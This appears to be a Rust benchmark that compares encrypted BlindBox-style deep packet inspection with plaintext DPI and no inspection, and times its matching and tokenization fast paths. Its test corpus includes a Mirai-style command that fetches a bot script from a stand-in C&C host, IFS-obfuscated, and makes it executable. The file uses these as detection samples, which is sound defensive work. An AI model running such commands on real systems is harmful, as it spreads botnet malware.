//! E-M4 — encrypted DPI (§IV-B2): detection and throughput of the
//! BlindBox-style encrypted middlebox vs plaintext DPI vs no inspection,
//! over a mixed corpus of benign and C&C traffic. The claim under test:
//! encrypted DPI preserves detection exactly, at a constant-factor
//! throughput cost, without breaking end-to-end encryption.
//!
//! Also sweeps the DPI fast path (single-pass engines vs per-rule scans)
//! and endpoint tokenization per window, on random payloads and on
//! space-padded telemetry, and emits `BENCH_dpi.json`.
//!
//! ```text
//! cargo run --release -p xlf-bench --bin exp_dpi -- [--smoke] [--json BENCH_dpi.json]
//! ```

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::process::ExitCode;
use std::sync::Arc;
use std::time::Instant;
use xlf_bench::harness::{fixed, per_call_s, Args, Row};
use xlf_bench::{obj, prf};
use xlf_core::dpi::{
    default_rules, match_batch_sharded, DpiSession, EncryptedDpi, PlaintextDpi, Rule,
};
use xlf_device::{Sensor, SensorKind};
use xlf_lwcrypto::ciphers::Speck128;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::searchable::{Token, Tokenizer, TOKEN_SIZE, TOKEN_WINDOW};
use xlf_simnet::SimTime;

// The sweep is seconds long, so the smoke run is the canonical sweep.
const RULE_COUNTS: [usize; 4] = [8, 64, 256, 1024];
const PAYLOAD_BYTES: [usize; 3] = [256, 1024, 4096];
/// Telemetry payload sizes `SimDevice` emits: idle, active, streaming.
const TOKENIZE_BYTES: [usize; 3] = [48, 120, 900];

/// The fast-path acceptance cell: rules × payload bytes.
const ACCEPTANCE_CELL: (usize, usize) = (256, 1024);
/// Required speed-up of the automaton over the naive scan there.
const AUTOMATON_REQUIRED: f64 = 5.0;

/// Builds the corpus: (payload, is_malicious).
fn corpus() -> Vec<(Vec<u8>, bool)> {
    let mut out = Vec::new();
    let benign = [
        "GET /weather/today?zip=44106 HTTP/1.1",
        "POST /telemetry temperature=71.2 humidity=40",
        "keepalive ping seq=291 device=thermo",
        "firmware check: version 2.1.3 ok",
        "stream chunk 0xA5A5 len=900 camera idle",
    ];
    let malicious = [
        "sh -c 'wget${IFS}http://cnc.evil/bot.sh' && chmod +x bot.sh",
        "/bin/busybox MIRAI scanner begin 10.0.0.0/24",
        "beacon POST /cdn-cgi/ HTTP keepalive c2",
    ];
    for round in 0..50 {
        for (i, b) in benign.iter().enumerate() {
            out.push((format!("{b} #{round}.{i}").into_bytes(), false));
        }
        // 1 in ~6 payloads is malicious.
        let m = malicious[round % malicious.len()];
        out.push((format!("{m} #{round}").into_bytes(), true));
    }
    out
}

/// Synthetic signature set of `n` distinct keywords (shaped like the C&C
/// markers of the default rules, but guaranteed disjoint).
fn synthetic_rules(n: usize) -> Vec<Rule> {
    (0..n)
        .map(|i| Rule {
            name: format!("sig-{i:04}"),
            keyword: format!("xlf:{i:04x}:c2-marker").into_bytes(),
        })
        .collect()
}

/// Random printable payloads of `size` bytes; every 8th payload gets one
/// rule keyword planted so the sweep also exercises the match path.
fn synthetic_payloads(rng: &mut StdRng, count: usize, size: usize, rules: &[Rule]) -> Vec<Vec<u8>> {
    (0..count)
        .map(|i| {
            let mut payload: Vec<u8> = (0..size).map(|_| rng.gen_range(0x20u8..0x7f)).collect();
            if i % 8 == 0 {
                let keyword = &rules[i % rules.len()].keyword;
                if keyword.len() <= size {
                    let at = rng.gen_range(0..=size - keyword.len());
                    payload[at..at + keyword.len()].copy_from_slice(keyword);
                }
            }
            payload
        })
        .collect()
}

struct SweepCell {
    rules: usize,
    payload_bytes: usize,
    /// MB/s per engine over the same payload batch.
    naive: f64,
    automaton: f64,
    batched: f64,
    enc_naive: f64,
    enc_indexed: f64,
    enc_sharded: f64,
}

impl SweepCell {
    fn automaton_speedup(&self) -> f64 {
        self.automaton / self.naive.max(1e-9)
    }

    fn index_speedup(&self) -> f64 {
        self.enc_indexed / self.enc_naive.max(1e-9)
    }
}

/// The fast-path sweep: rule-set size × payload size, naive vs automaton
/// vs batched (plaintext) and naive vs token-index vs sharded (encrypted).
fn fastpath_sweep() -> Vec<SweepCell> {
    const PAYLOADS_PER_CELL: usize = 48;
    const SHARDS: usize = 4;
    let mut rng = StdRng::seed_from_u64(0x517f_d719);
    let mut cells = Vec::new();
    for rule_count in RULE_COUNTS {
        let rules = synthetic_rules(rule_count);
        for size in PAYLOAD_BYTES {
            let payloads = synthetic_payloads(&mut rng, PAYLOADS_PER_CELL, size, &rules);
            let refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();
            let batch_bytes = (size * PAYLOADS_PER_CELL) as f64 / 1e6;
            let mbps = |secs_per_batch: f64| batch_bytes / secs_per_batch.max(1e-12);

            let plain = PlaintextDpi::new(rules.clone());
            let naive = mbps(per_call_s(|| {
                for p in &refs {
                    std::hint::black_box(plain.inspect_naive(p));
                }
            }));
            let automaton = mbps(per_call_s(|| {
                for p in &refs {
                    std::hint::black_box(plain.inspect(p));
                }
            }));
            let batched = mbps(per_call_s(|| {
                std::hint::black_box(plain.inspect_batch(&refs));
            }));

            let endpoint = Tokenizer::new(b"sweep session").expect("tokenizer");
            let streams: Vec<Vec<Token>> = refs.iter().map(|p| endpoint.tokenize(p)).collect();
            let mut enc_indexed_engine =
                EncryptedDpi::new(Arc::new(DpiSession::bind(&rules, endpoint.clone())));
            let enc_naive = mbps(per_call_s(|| {
                for t in &streams {
                    std::hint::black_box(enc_indexed_engine.match_stream_naive(t));
                }
            }));
            let enc_indexed = mbps(per_call_s(|| {
                std::hint::black_box(enc_indexed_engine.inspect_batch(
                    "dev",
                    &streams,
                    SimTime::ZERO,
                ));
            }));
            let enc_sharded = mbps(per_call_s(|| {
                std::hint::black_box(match_batch_sharded(&enc_indexed_engine, &streams, SHARDS));
            }));

            cells.push(SweepCell {
                rules: rule_count,
                payload_bytes: size,
                naive,
                automaton,
                batched,
                enc_naive,
                enc_indexed,
                enc_sharded,
            });
        }
    }
    cells
}

/// Required speed-up of the tokenizer over the per-window PRF reference,
/// on random payloads (no two neighbouring windows equal).
const TOKENIZE_REQUIRED: f64 = 5.0;

/// Payload shapes of the tokenizer cells.
#[derive(Clone, Copy, PartialEq)]
enum Shape {
    /// Random printable bytes: every window differs from its
    /// predecessor, so every window costs a SPECK lane.
    Random,
    /// `SimDevice` telemetry: a sensor reading space-padded to the
    /// payload size, mostly one run of equal windows.
    Padded,
}

impl Shape {
    fn name(self) -> &'static str {
        match self {
            Shape::Random => "random",
            Shape::Padded => "padded",
        }
    }

    fn payloads(self, rng: &mut StdRng, count: usize, size: usize) -> Vec<Vec<u8>> {
        const KINDS: [SensorKind; 5] = [
            SensorKind::Temperature,
            SensorKind::Motion,
            SensorKind::Smoke,
            SensorKind::Power,
            SensorKind::Camera,
        ];
        (0..count)
            .map(|i| match self {
                Shape::Random => (0..size).map(|_| rng.gen_range(0x20u8..0x7f)).collect(),
                Shape::Padded => Sensor::new(KINDS[i % KINDS.len()], i as u64)
                    .encode_reading(SimTime::from_secs(rng.gen_range(0..86_400)), size)
                    .to_vec(),
            })
            .collect()
    }
}

struct TokenizeCell {
    shape: Shape,
    payload_bytes: usize,
    /// Nanoseconds per window: the session tokenizer, and the reference.
    kernel_ns: f64,
    reference_ns: f64,
}

impl TokenizeCell {
    fn windows_per_payload(&self) -> usize {
        self.payload_bytes + 1 - TOKEN_WINDOW
    }

    fn speedup(&self) -> f64 {
        self.reference_ns / self.kernel_ns.max(1e-9)
    }
}

/// The token definition as written: one CBC-MAC PRF call per sliding
/// window, under the token key derived from the session secret.
fn reference_tokenize(cipher: &Speck128, payload: &[u8]) -> Vec<Token> {
    payload
        .windows(TOKEN_WINDOW)
        .map(|window| {
            xlf_lwcrypto::mac::prf(cipher, "blindbox-token", window).expect("PRF over one window")
                [..TOKEN_SIZE]
                .try_into()
                .expect("token-sized prefix")
        })
        .collect()
}

/// Endpoint tokenization cost per window at each telemetry size and
/// payload shape: the session tokenizer (reusing one token buffer)
/// against the reference. Panics if the two disagree on any token.
fn tokenize_sweep() -> Vec<TokenizeCell> {
    const PAYLOADS_PER_CELL: usize = 32;
    let secret = b"tokenize session";
    let tokenizer = Tokenizer::new(secret).expect("tokenizer");
    let key = derive_key(secret, "xlf-searchable-token", 16).expect("token key");
    let cipher = Speck128::new(&key).expect("16-byte token key");
    let mut rng = StdRng::seed_from_u64(0x70c3_11e5);
    let cells = [Shape::Random, Shape::Padded]
        .into_iter()
        .flat_map(|shape| TOKENIZE_BYTES.map(|size| (shape, size)));
    cells
        .map(|(shape, size)| {
            let payloads = shape.payloads(&mut rng, PAYLOADS_PER_CELL, size);
            for p in &payloads {
                assert_eq!(
                    tokenizer.tokenize(p),
                    reference_tokenize(&cipher, p),
                    "tokenizer diverged from the reference PRF at {size} B ({})",
                    shape.name()
                );
            }
            let mut buffer = Vec::new();
            let kernel = per_call_s(|| {
                for p in &payloads {
                    tokenizer.tokenize_into(std::hint::black_box(p), &mut buffer);
                    std::hint::black_box(&buffer);
                }
            });
            let reference = per_call_s(|| {
                for p in &payloads {
                    std::hint::black_box(reference_tokenize(&cipher, std::hint::black_box(p)));
                }
            });
            let windows = (PAYLOADS_PER_CELL * (size + 1 - TOKEN_WINDOW)) as f64;
            TokenizeCell {
                shape,
                payload_bytes: size,
                kernel_ns: kernel * 1e9 / windows,
                reference_ns: reference * 1e9 / windows,
            }
        })
        .collect()
}

/// The slowest random-payload cell's speed-up: the acceptance value.
/// Random payloads have no runs of equal windows, so this bounds the
/// tokenizer where skipping repeats cannot help.
fn tokenize_speedup(cells: &[TokenizeCell]) -> f64 {
    cells
        .iter()
        .filter(|c| c.shape == Shape::Random)
        .map(TokenizeCell::speedup)
        .fold(f64::INFINITY, f64::min)
}

fn main() -> ExitCode {
    let args = Args::from_env();
    let corpus = corpus();
    let total_bytes: usize = corpus.iter().map(|(p, _)| p.len()).sum();

    // Plaintext DPI (the middlebox that breaks end-to-end encryption).
    let plain = PlaintextDpi::new(default_rules());
    let start = Instant::now();
    let plain_outcomes: Vec<(bool, bool)> = corpus
        .iter()
        .map(|(p, truth)| (!plain.inspect(p).is_empty(), *truth))
        .collect();
    let plain_elapsed = start.elapsed().as_secs_f64();

    // Encrypted DPI: the endpoint tokenizes; the middlebox matches tokens.
    let endpoint = Tokenizer::new(b"exp-dpi session").expect("tokenizer");
    let mut enc = EncryptedDpi::new(Arc::new(DpiSession::bind(
        &default_rules(),
        endpoint.clone(),
    )));
    let mut firsts = Vec::new();
    let start = Instant::now();
    let enc_outcomes: Vec<(bool, bool)> = corpus
        .iter()
        .map(|(p, truth)| {
            let tokens = endpoint.tokenize(p);
            (
                !enc.inspect("dev", &tokens, &mut firsts, SimTime::ZERO)
                    .is_empty(),
                *truth,
            )
        })
        .collect();
    let enc_elapsed = start.elapsed().as_secs_f64();

    let none_outcomes: Vec<(bool, bool)> =
        corpus.iter().map(|(_, truth)| (false, *truth)).collect();

    // No inspection keeps end-to-end encryption but detects nothing;
    // plaintext DPI breaks it (MitM certificates); encrypted DPI keeps it.
    let mbps = |elapsed: f64| fixed((total_bytes as f64 / 1e6) / elapsed.max(1e-9), 1);
    let detection = [
        ("no inspection", &none_outcomes, None, true),
        (
            "plaintext DPI",
            &plain_outcomes,
            Some(mbps(plain_elapsed)),
            false,
        ),
        (
            "XLF encrypted DPI",
            &enc_outcomes,
            Some(mbps(enc_elapsed)),
            true,
        ),
    ]
    .map(|(engine, outcomes, mbps, e2e_intact)| {
        let m = prf(outcomes);
        obj! {
            "engine" => engine,
            "precision" => fixed(m.precision, 3),
            "recall" => fixed(m.recall, 3),
            "f1" => fixed(m.f1, 3),
            "mbps" => mbps,
            "e2e_intact" => e2e_intact,
        }
    });

    // Fast-path sweep: single-pass engines vs the per-rule scans across
    // rule-set sizes and payload sizes.
    let cells = fastpath_sweep();
    let acceptance = cells
        .iter()
        .find(|c| (c.rules, c.payload_bytes) == ACCEPTANCE_CELL)
        .expect("acceptance cell swept");

    // Endpoint tokenization: the cost the encrypted engines above exclude
    // (their token streams are built outside the timed region).
    let tokenize = tokenize_sweep();
    let speedup = tokenize_speedup(&tokenize);
    let rows = [
        Row::new(
            "encrypted_f1",
            prf(&enc_outcomes).f1,
            "==",
            prf(&plain_outcomes).f1,
        ),
        Row::new(
            "automaton_speedup_at_256_rules_1k",
            acceptance.automaton_speedup(),
            ">=",
            AUTOMATON_REQUIRED,
        ),
        Row::new("tokenize_speedup", speedup, ">=", TOKENIZE_REQUIRED),
    ];
    let results = obj! {
        "corpus_payloads" => corpus.len(),
        "detection" => detection.to_vec(),
        "cells" => cells.iter().map(|c| obj! {
            "rules" => c.rules,
            "payload_bytes" => c.payload_bytes,
            "naive_mbps" => fixed(c.naive, 2),
            "automaton_mbps" => fixed(c.automaton, 2),
            "batched_mbps" => fixed(c.batched, 2),
            "enc_naive_mbps" => fixed(c.enc_naive, 2),
            "enc_indexed_mbps" => fixed(c.enc_indexed, 2),
            "enc_sharded_mbps" => fixed(c.enc_sharded, 2),
            "automaton_speedup" => fixed(c.automaton_speedup(), 2),
            "index_speedup" => fixed(c.index_speedup(), 2),
        }).collect::<Vec<_>>(),
        "tokenize" => tokenize.iter().map(|c| obj! {
            "shape" => c.shape.name(),
            "payload_bytes" => c.payload_bytes,
            "windows_per_payload" => c.windows_per_payload(),
            "kernel_ns_per_window" => fixed(c.kernel_ns, 2),
            "reference_ns_per_window" => fixed(c.reference_ns, 2),
            "speedup" => fixed(c.speedup(), 2),
        }).collect::<Vec<_>>(),
    };
    let config = obj! {
        "rule_counts" => &RULE_COUNTS[..],
        "payload_bytes" => &PAYLOAD_BYTES[..],
        "tokenize_bytes" => &TOKENIZE_BYTES[..],
        "tokenize_shapes" => vec![Shape::Random.name(), Shape::Padded.name()],
    };
    args.finish("dpi", config, results, &rows)
}
